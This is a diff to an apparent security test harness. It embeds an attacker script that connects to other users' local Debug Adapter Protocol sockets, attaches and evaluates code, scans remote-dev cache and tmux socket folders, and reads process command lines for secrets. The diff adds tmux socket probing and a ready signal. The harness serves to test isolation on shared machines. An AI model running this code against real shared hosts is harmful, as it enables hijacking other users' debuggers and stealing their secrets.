@@ -7,7 +7,7 @@ by everyone, so a real attacker can aim as well, and this machine's other users'
 left alone -- and connects to each at once, speaking the Debug Adapter Protocol
 (initialize, attach, configurationDone, threads, pause, evaluate of the victim's uid). Every
 100 ms she also tries to list and read everything under the folders she is given (the
-victim's remote-dev cache) and reads every process's command line looking for the run's
+victim's remote-dev cache; a tmux socket folder, whose server she tries to connect to) and reads every process's command line looking for the run's
 secrets. Ending her (closing her stdin) prints what she got:
 tried (sockets she connected to), answered (sockets that sent her any byte), accepted
 (`attach` answered with success), evaluated (`evaluate` answered), read (files she read or
@@ -37,6 +37,7 @@ ATTACK = r'''
 import json, os, re, socket, struct, sys, threading, time
 uid, SECRET, paths = sys.argv[1], sys.argv[2], sys.argv[3:]
 leaked = set()
+unix_tried = set()
 stats = {"tried": 0, "answered": 0, "accepted": 0, "evaluated": 0, "read": 0, "secrets": 0}
 lock = threading.Lock()
 stop = threading.Event()
@@ -114,6 +115,18 @@ def attack(fam, host, port):
 
 def snoop():
     for top in paths:
+        sock = os.path.join(top, "default")        # a tmux server's socket
+        if top.rstrip("/").split("/")[-1].startswith("tmux-") and sock not in unix_tried:
+            unix_tried.add(sock)
+            count("tried")
+            try:
+                u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                u.settimeout(2)
+                u.connect(sock)
+                count("answered")
+                u.close()
+            except OSError:
+                pass
         for dirpath, dirs, files in os.walk(top):
             count("read")
             for name in files:
@@ -138,9 +151,13 @@ def snoop():
                 leaked.add(pid)
                 count("secrets")
 
+ready = threading.Event()
+
 def watch():
     seen = listening()
-    last = 0.0
+    snoop()
+    last = time.time()
+    ready.set()
     while not stop.is_set():
         now = listening()
         for fam, spelled, inode in now - seen:
@@ -158,6 +175,7 @@ if uid == "once":   # one given port: once 127.0.0.1 PORT
     print(json.dumps(stats), flush=True)
     sys.exit(0)
 threading.Thread(target=watch, daemon=True).start()
+ready.wait()
 print("ready", flush=True)
 sys.stdin.read()
 stop.set()
